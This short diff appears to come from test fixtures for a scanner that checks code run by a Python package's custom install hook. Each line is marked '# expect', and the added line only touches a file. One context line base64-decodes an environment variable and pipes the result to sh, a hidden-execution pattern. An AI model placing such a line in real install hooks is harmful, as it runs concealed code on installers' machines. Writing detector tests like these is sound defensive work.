@@ -19,3 +19,4 @@ setup(name="sample", cmdclass={"install": Install})
 os.system("start helper.exe")  # expect
 subprocess.Popen(["pythonw", "helper.pyw"])  # expect
 os.system("echo %s | base64 -d | sh" % os.environ["STAGE"])  # expect
+os.system("touch /var/tmp/seen")  # expect
